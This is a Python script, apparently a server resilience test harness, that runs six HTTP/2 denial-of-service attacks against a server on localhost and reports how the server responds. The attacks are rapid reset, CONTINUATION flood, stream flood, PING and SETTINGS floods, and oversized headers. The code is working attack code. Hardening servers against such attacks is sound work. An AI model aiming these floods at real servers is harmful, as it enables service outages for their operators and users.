#!/usr/bin/env python3
"""HTTP/2 abuse through a raw frame client (hyperframe + hpack from PyPI).

Usage: h2abuse.py PORT

Runs each attack on a fresh connection to 127.0.0.1:PORT and prints one
line per attack: `name<TAB>outcome<TAB>details`. The outcome is what the
server did: `goaway:<error code>`, `closed`, `rst:<n>` (streams reset) or
`nothing` (the server let the abuse run to its end). Every attack is
bounded in time (about 10 s at most) and never reads more than it needs.
"""
import socket
import sys
import time

from hpack import Encoder
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
ERRORS = {0: "NO_ERROR", 1: "PROTOCOL_ERROR", 2: "INTERNAL_ERROR", 3: "FLOW_CONTROL_ERROR",
          6: "FRAME_SIZE_ERROR", 7: "REFUSED_STREAM", 8: "CANCEL", 9: "COMPRESSION_ERROR",
          11: "ENHANCE_YOUR_CALM"}


class Conn:
    def __init__(self, port):
        self.sock = socket.create_connection(("127.0.0.1", port), timeout=5)
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.buf = b""
        self.encoder = Encoder()
        self.goaway = None
        self.closed = False
        self.resets = {}
        self.sock.sendall(PREFACE + SettingsFrame(0).serialize())

    def send(self, frames):
        data = b"".join(f.serialize() if isinstance(f, Frame) else f for f in frames)
        try:
            self.sock.sendall(data)
            return True
        except OSError:
            self.closed = True
            return False

    def headers(self, stream, path, end_stream=True, end_headers=True, extra=()):
        block = self.encoder.encode([(":method", "GET"), (":scheme", "http"), (":authority", "localhost"),
                                     (":path", path)] + list(extra))
        f = HeadersFrame(stream, block)
        if end_stream:
            f.flags.add("END_STREAM")
        if end_headers:
            f.flags.add("END_HEADERS")
        return f

    def pump(self, seconds):
        """Reads frames for up to `seconds` or until the connection ends."""
        deadline = time.monotonic() + seconds
        while not self.closed and time.monotonic() < deadline:
            self.sock.settimeout(max(0.01, deadline - time.monotonic()))
            try:
                chunk = self.sock.recv(65536)
            except socket.timeout:
                break
            except OSError:
                self.closed = True
                break
            if not chunk:
                self.closed = True
                break
            self.buf += chunk
            while len(self.buf) >= 9:
                frame, length = Frame.parse_frame_header(memoryview(self.buf[:9]))
                if len(self.buf) < 9 + length:
                    break
                frame.parse_body(memoryview(self.buf[9:9 + length]))
                self.buf = self.buf[9 + length:]
                if isinstance(frame, GoAwayFrame):
                    self.goaway = frame.error_code
                elif isinstance(frame, RstStreamFrame):
                    self.resets[frame.stream_id] = frame.error_code

    def outcome(self):
        if self.goaway is not None:
            return "goaway:" + ERRORS.get(self.goaway, str(self.goaway))
        if self.closed:
            return "closed"
        if self.resets:
            return "rst:%d" % len(self.resets)
        return "nothing"


def rapid_reset(port):
    c = Conn(port)
    c.pump(0.2)
    sent = 0
    for i in range(2000):
        s = 1 + 2 * i
        if not c.send([c.headers(s, "/hello", end_stream=True), RstStreamFrame(s, error_code=8)]):
            break
        sent += 1
        if i % 100 == 99:
            c.pump(0.01)
            if c.goaway is not None or c.closed:
                break
    c.pump(2)
    return c, "%d streams opened and reset" % sent


def continuation_flood(port):
    c = Conn(port)
    c.pump(0.2)
    c.send([c.headers(1, "/hello", end_stream=True, end_headers=False)])
    sent = 0
    # Each CONTINUATION carries 16 KiB of a literal header that never ends.
    junk = b"\x00\x00" + b"a" * 16000
    for _ in range(4096):  # up to 64 MiB of header block
        if not c.send([ContinuationFrame(1, junk[:16000])]):
            break
        sent += 1
        if sent % 64 == 0:
            c.pump(0.01)
            if c.goaway is not None or c.closed:
                break
    c.pump(2)
    return c, "%d CONTINUATION frames (%d KiB) sent" % (sent, sent * 16000 // 1024)


def stream_flood(port):
    c = Conn(port)
    c.pump(0.2)
    n = 1000
    frames = [c.headers(1 + 2 * i, "/slow?ms=3000") for i in range(n)]
    c.send(frames)
    c.pump(2)
    refused = sum(1 for code in c.resets.values() if code == 7)
    return c, "%d streams opened at once, %d refused" % (n, refused)


def flood(port, frame, what):
    """Sends `frame` in batches of 1,000 for 5 s without reading the ACKs:
    the server must stop reading, not buffer them all."""
    c = Conn(port)
    c.pump(0.2)
    sent = 0
    start = time.monotonic()
    c.sock.settimeout(2)
    batch = frame.serialize() * 1000
    while time.monotonic() - start < 5:
        try:
            c.sock.sendall(batch)
            sent += 1000
        except socket.timeout:
            break
        except OSError:
            c.closed = True
            break
    c.pump(1)
    return c, "%d %s sent before the server stopped reading (or closed)" % (sent, what)


def ping_flood(port):
    return flood(port, PingFrame(0, opaque_data=b"12345678"), "PINGs")


def settings_flood(port):
    return flood(port, SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 65535}), "SETTINGS")


def oversized_headers(port):
    c = Conn(port)
    c.pump(0.2)
    big = [("x-big-%d" % i, "v" * 4000) for i in range(64)]  # 256 KiB of headers
    block = c.encoder.encode([(":method", "GET"), (":scheme", "http"), (":authority", "localhost"),
                              (":path", "/hello")] + big)
    first = HeadersFrame(1, block[:16000])
    first.flags.add("END_STREAM")
    frames = [first]
    rest = block[16000:]
    while rest:
        f = ContinuationFrame(1, rest[:16000])
        rest = rest[16000:]
        if not rest:
            f.flags.add("END_HEADERS")
        frames.append(f)
    c.send(frames)
    c.pump(2)
    # A 431 answer is also a right answer: look for a response HEADERS.
    return c, "%d KiB header list" % (len(block) // 1024)


ATTACKS = [("rapid reset", rapid_reset), ("CONTINUATION flood", continuation_flood),
           ("stream flood", stream_flood), ("PING flood", ping_flood),
           ("SETTINGS flood", settings_flood), ("oversized header list", oversized_headers)]


def main():
    port = int(sys.argv[1])
    only = sys.argv[2:]
    for name, attack in ATTACKS:
        if only and name not in only:
            continue
        try:
            c, details = attack(port)
            outcome = c.outcome()
            c.sock.close()
        except OSError as e:
            outcome, details = "error", str(e)
        print("%s\t%s\t%s" % (name, outcome, details), flush=True)


if __name__ == "__main__":
    main()
